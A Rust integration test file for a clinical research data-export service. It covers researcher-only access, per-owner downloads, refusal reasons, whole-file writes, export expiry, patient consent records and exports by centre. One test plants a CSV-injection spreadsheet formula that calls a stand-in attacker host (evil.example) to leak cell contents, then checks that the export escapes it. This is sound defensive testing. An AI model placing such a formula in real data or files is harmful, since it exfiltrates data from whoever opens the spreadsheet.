//! The export page's server functions and downloads over HTTP: researchers only, each
//! export its maker's alone, refusals with their reasons, and a download that cannot be written
//! is refused before it starts (it is written whole to a temporary file first).
use crate::{helpers::*, on_both_databases};
use app::domain::role::Role;
use server::{
    services::checkins::CheckinCatalogue,
    synthetic::{self, Options},
};

pub async fn world(kind: Kind) -> TestApp {
    let app = spawn(kind).await;
    let journeys = server::journeys::load(None).expect("catalogue");
    let checkins = CheckinCatalogue::builtin().expect("check-ins");
    let options = Options {
        patients: 150,
        responses_per_patient: 4,
        seed: 9,
    };
    synthetic::seed(&app.db, &journeys, &checkins, &options)
        .await
        .expect("seeded");
    app.user(Role::Researcher, "researcher@example.org", None).await;
    app.user(Role::Researcher, "other.researcher@example.org", None).await;
    app.user(Role::Admin, "admin@example.org", None).await;
    app
}

pub const SCORES_AND_FLAGS: &[(&str, &str)] = &[
    ("form[datasets][0]", "scores"),
    ("form[datasets][3]", "flags"),
    ("form[formats][0]", "csv"),
    ("form[product]", ""),
    ("form[infused_from]", ""),
    ("form[infused_to]", ""),
    ("form[centre]", ""),
    ("form[project]", ""),
];

async fn only_researchers_export_and_only_their_own(kind: Kind) {
    let app = world(kind).await;
    // A value that got into the data as a spreadsheet formula (CSV injection).
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    sqlx::query("UPDATE flags SET rule = $1")
        .bind(formula)
        .execute(&app.db.pool)
        .await
        .expect("a poisoned rule");
    let researcher = app.signed_in("researcher@example.org").await;
    let (status, body) = call(&researcher, &app, "research/export", SCORES_AND_FLAGS).await;
    assert_eq!(status, 200, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let token = created["token"].as_str().expect("token").to_string();
    assert_eq!(
        created["files"],
        serde_json::json!(["patients.csv", "scores.csv", "flags.csv", "codebook.json"])
    );
    assert!(
        created["summary"]["released"].as_u64().is_some_and(|n| n >= 5),
        "{body}"
    );

    // Nobody else: not signed in, another role, another researcher.
    let admin = app.signed_in("admin@example.org").await;
    let other = app.signed_in("other.researcher@example.org").await;
    assert_eq!(call(&client(), &app, "research/export", SCORES_AND_FLAGS).await.0, 401);
    assert_eq!(call(&admin, &app, "research/export", SCORES_AND_FLAGS).await.0, 403);
    assert_eq!(call(&admin, &app, "research/options", &[]).await.0, 403);
    let zip = app.url(&format!("/research/exports/{token}/export.zip"));
    assert_eq!(admin.get(&zip).send().await.expect("request").status().as_u16(), 403);
    assert_eq!(other.get(&zip).send().await.expect("request").status().as_u16(), 404);
    assert_eq!(client().get(&zip).send().await.expect("request").status().as_u16(), 401);
    assert_eq!(
        call(&other, &app, "research/progress", &[("token", &token)]).await.0,
        404
    );

    // The maker downloads one file, then the whole zip.
    let file = researcher
        .get(app.url(&format!("/research/exports/{token}/files/scores.csv")))
        .send()
        .await
        .expect("request");
    assert_eq!(file.status().as_u16(), 200);
    assert!(file.headers()["content-type"]
        .to_str()
        .unwrap_or_default()
        .starts_with("text/csv"));
    let text = file.text().await.expect("body");
    // Browsers ask for brotli; a download goes out as written, whole.
    let with_br = researcher
        .get(app.url(&format!("/research/exports/{token}/files/scores.csv")))
        .header("accept-encoding", "br, gzip")
        .send()
        .await
        .expect("request");
    assert!(with_br.headers().get("content-encoding").is_none());
    assert_eq!(with_br.text().await.expect("body"), text);
    assert!(
        text.starts_with("research_id,day,instrument,version,reported_by,scale,score"),
        "{text:.200}"
    );
    // The poisoned cells are written as text a spreadsheet shows, never runs.
    let flags = researcher
        .get(app.url(&format!("/research/exports/{token}/files/flags.csv")))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("body");
    let rules: Vec<&str> = flags.lines().skip(1).filter_map(|l| l.split(',').nth(2)).collect();
    assert!(!rules.is_empty(), "{flags:.300}");
    assert!(
        rules.iter().all(|r| r.starts_with("\"'=HYPERLINK(")),
        "{:?}",
        &rules[..rules.len().min(3)]
    );
    let missing = researcher
        .get(app.url(&format!("/research/exports/{token}/files/items.csv")))
        .send()
        .await
        .expect("request");
    assert_eq!(missing.status().as_u16(), 404, "a file not asked for is not served");
    let response = researcher.get(&zip).send().await.expect("request");
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.headers()["content-type"], "application/zip");
    let bytes = response.bytes().await.expect("the whole zip");
    let end = bytes.len().saturating_sub(22);
    assert_eq!(
        &bytes[end..end + 4],
        b"PK\x05\x06",
        "the zip ends with its central directory"
    );
    let (status, progress) = call(&researcher, &app, "research/progress", &[("token", &token)]).await;
    assert_eq!(status, 200);
    assert!(progress.contains("\"state\":\"complete\""), "{progress}");
    let progress: serde_json::Value = serde_json::from_str(&progress).expect("JSON");
    assert!(progress["records_total"].as_i64().is_some_and(|n| n > 0), "{progress}");
    assert_eq!(
        progress["records_done"], progress["records_total"],
        "the bar ends full, not past"
    );
    let audited: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'research.export_downloaded'")
        .fetch_one(&app.db.pool)
        .await
        .expect("audit");
    assert_eq!(
        audited, 4,
        "every download, each file too (scores twice, flags, the zip)"
    );

    // Past its time (24 h by default) an export loses its key and members: no more downloads.
    let expired = server::storage::research_exports::expire_due(&app.db, server::storage::now() + 24 * 3600 + 1)
        .await
        .expect("expiry");
    assert_eq!(expired, 1);
    assert_eq!(
        researcher.get(&zip).send().await.expect("request").status().as_u16(),
        404
    );
    assert_eq!(count(&app, "research_export_members").await, 0);
}

async fn refusals_say_why(kind: Kind) {
    let app = world(kind).await;
    let researcher = app.signed_in("researcher@example.org").await;
    let with = |field: &'static str, value: &'static str| {
        let mut form: Vec<(&str, &str)> = SCORES_AND_FLAGS.iter().filter(|(f, _)| *f != field).copied().collect();
        form.push((field, value));
        form
    };
    let (status, _) = call(&researcher, &app, "research/export", &with("form[centre]", "1")).await;
    assert_eq!(status, 403, "exports by centre are off in this deployment");
    let (status, body) = call(&researcher, &app, "research/export", &with("form[product]", "ide-cel")).await;
    assert_eq!(status, 422);
    assert!(body.contains("TooFewPatients"), "{body}");
    let (status, body) = call(
        &researcher,
        &app,
        "research/export",
        &[("form[formats][1]", "fhir-ndjson")],
    )
    .await;
    assert_eq!(status, 422);
    assert!(body.contains("\"datasets\"") && body.contains("Required"), "{body}");
    let mut reversed = with("form[infused_to]", "2026-01-01");
    reversed.retain(|(f, _)| *f != "form[infused_from]");
    reversed.push(("form[infused_from]", "2026-06-01"));
    let (status, body) = call(&researcher, &app, "research/export", &reversed).await;
    assert_eq!(status, 422);
    assert!(body.contains("DateRangeReversed"), "{body}");
    let (status, _) = call(&researcher, &app, "research/project", &[("name", "Long-term ICANS")]).await;
    assert_eq!(status, 200);
    let (status, body) = call(&researcher, &app, "research/project", &[("name", "Long-term ICANS")]).await;
    assert_eq!(status, 422);
    assert!(body.contains("NameTaken"), "{body}");
    let (_, options) = call(&researcher, &app, "research/options", &[]).await;
    assert!(
        options.contains("Long-term ICANS") && options.contains("\"k\":5"),
        "{options}"
    );
}

async fn a_download_that_cannot_be_written_is_refused_before_it_starts(kind: Kind) {
    let app = world(kind).await;
    let researcher = app.signed_in("researcher@example.org").await;
    let (status, body) = call(&researcher, &app, "research/export", SCORES_AND_FLAGS).await;
    assert_eq!(status, 200, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let token = created["token"].as_str().expect("token");
    let last: i64 =
        sqlx::query_scalar("SELECT patient_id FROM research_export_members ORDER BY research_id DESC LIMIT 1")
            .fetch_one(&app.db.pool)
            .await
            .expect("a member");
    sqlx::query("UPDATE checkin_responses SET scores = 'not json' WHERE id = (SELECT MAX(id) FROM checkin_responses WHERE patient_id = $1)")
        .bind(last)
        .execute(&app.db.pool)
        .await
        .expect("break one response");
    let response = researcher
        .get(app.url(&format!("/research/exports/{token}/export.zip")))
        .send()
        .await
        .expect("the download answers");
    // Written whole before it is sent: a failure is known before the answer starts.
    assert_eq!(response.status().as_u16(), 500);
    let text = response.text().await.unwrap_or_default();
    assert!(
        text.contains("could not be written") && !text.contains("json"),
        "{text}"
    );
    let (_, progress) = call(&researcher, &app, "research/progress", &[("token", token)]).await;
    assert!(progress.contains("\"state\":\"failed\""), "{progress}");
}

on_both_databases!(
    only_researchers_export_and_only_their_own,
    refusals_say_why,
    a_download_that_cannot_be_written_is_refused_before_it_starts
);

async fn consent_is_the_patients_and_their_nurses_to_record(kind: Kind) {
    let app = spawn(kind).await;
    let centre = app.centre("Centre A").await;
    let elsewhere = app.centre("Centre B").await;
    let patient = app.user(Role::Patient, "patient@example.org", Some(centre)).await;
    app.user(Role::Nurse, "nurse@example.org", Some(centre)).await;
    app.user(Role::Nurse, "nurse.b@example.org", Some(elsewhere)).await;
    let caregiver = app.user(Role::Caregiver, "carer@example.org", None).await;
    server::storage::accounts::link_caregiver(&app.db.pool, caregiver, patient, None)
        .await
        .expect("link");
    let id = patient.to_string();
    let given = |c: &str| -> bool { c.contains("\"given\":true") };

    let me = app.signed_in("patient@example.org").await;
    let (status, body) = call(&me, &app, "research/consent", &[]).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("\"never_recorded\":true") && !given(&body));
    let (status, body) = call(&me, &app, "research/consent/set", &[("given", "true")]).await;
    assert_eq!(status, 200, "{body}");
    assert!(given(&body) && body.contains("\"via\":\"app\""), "{body}");

    // Nobody outside the patient and their centre's nurses.
    for email in ["nurse.b@example.org", "carer@example.org"] {
        let other = app.signed_in(email).await;
        assert_eq!(
            call(&other, &app, "research/consent", &[("patient_id", &id)]).await.0,
            403,
            "{email}"
        );
        let (status, _) = call(
            &other,
            &app,
            "research/consent/set",
            &[("patient_id", &id), ("given", "false")],
        )
        .await;
        assert_eq!(status, 403, "{email}");
    }
    // A patient who does not exist looks like one of another centre: no enumeration.
    let (status, _) = call(
        &me,
        &app,
        "research/consent",
        &[("patient_id", &(patient + 1000).to_string())],
    )
    .await;
    assert_eq!(status, 403);

    // The nurse records the paper form: the day it was signed is needed.
    let nurse = app.signed_in("nurse@example.org").await;
    let (status, body) = call(
        &nurse,
        &app,
        "research/consent/set",
        &[("patient_id", &id), ("given", "false")],
    )
    .await;
    assert_eq!(status, 200, "a withdrawal needs no date: {body}");
    assert!(!given(&body));
    let (status, body) = call(
        &nurse,
        &app,
        "research/consent/set",
        &[("patient_id", &id), ("given", "true")],
    )
    .await;
    assert_eq!(status, 422);
    assert!(body.contains("signed_on"), "{body}");
    let (status, body) = call(
        &nurse,
        &app,
        "research/consent/set",
        &[("patient_id", &id), ("given", "true"), ("signed_on", "2026-11-20")],
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(given(&body) && body.contains("\"signed_on\":\"2026-11-20\"") && body.contains("paper"));
    let (_, body) = call(&me, &app, "research/consent", &[]).await;
    assert!(
        given(&body) && body.contains("paper"),
        "the patient sees what the nurse recorded: {body}"
    );

    let events: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM research_consents WHERE patient_id = $1")
        .bind(patient)
        .fetch_one(&app.db.pool)
        .await
        .expect("events");
    assert_eq!(events, 3, "every change is kept");
    let audited: i64 =
        sqlx::query_scalar("SELECT COUNT(*) FROM audit_log WHERE action LIKE 'research.consent%' AND patient_id = $1")
            .bind(patient)
            .fetch_one(&app.db.pool)
            .await
            .expect("audit");
    assert_eq!(audited, 5, "2 reads and 3 changes");
}

on_both_databases!(consent_is_the_patients_and_their_nurses_to_record);

async fn a_deployment_may_allow_exports_by_centre(kind: Kind) {
    let app = spawn_with(kind, |config| config.research_allow_centre = true).await;
    let journeys = server::journeys::load(None).expect("catalogue");
    let checkins = CheckinCatalogue::builtin().expect("check-ins");
    let options = Options {
        patients: 500,
        responses_per_patient: 0,
        seed: 4,
    };
    synthetic::seed(&app.db, &journeys, &checkins, &options)
        .await
        .expect("seeded");
    app.user(Role::Researcher, "researcher@example.org", None).await;
    let researcher = app.signed_in("researcher@example.org").await;
    let (_, body) = call(&researcher, &app, "research/options", &[]).await;
    let offered: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let leuven = offered["centres"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c[1].as_str().is_some_and(|n| n.contains("Leuven"))))
        .map(|c| c[0].to_string())
        .expect("the centres are offered");
    let mut form: Vec<(&str, &str)> = SCORES_AND_FLAGS
        .iter()
        .filter(|(f, _)| *f != "form[centre]")
        .copied()
        .collect();
    form.push(("form[centre]", &leuven));
    let (status, body) = call(&researcher, &app, "research/export", &form).await;
    assert_eq!(status, 200, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let token = created["token"].as_str().expect("token");
    let patients = researcher
        .get(app.url(&format!("/research/exports/{token}/files/patients.csv")))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("body");
    let rows: Vec<&str> = patients.lines().skip(1).collect();
    assert!(rows.len() >= 5, "{patients}");
    // Only Leuven's patients; the centre is named where k holds, else its country or region.
    assert!(
        rows.iter().all(|r| !r.contains("Lyon") && !r.contains("Utrecht")),
        "{patients}"
    );
    assert!(rows
        .iter()
        .all(|r| r.contains("Leuven") || r.contains(",BE,") || r.contains("western-europe")));
}

on_both_databases!(a_deployment_may_allow_exports_by_centre);
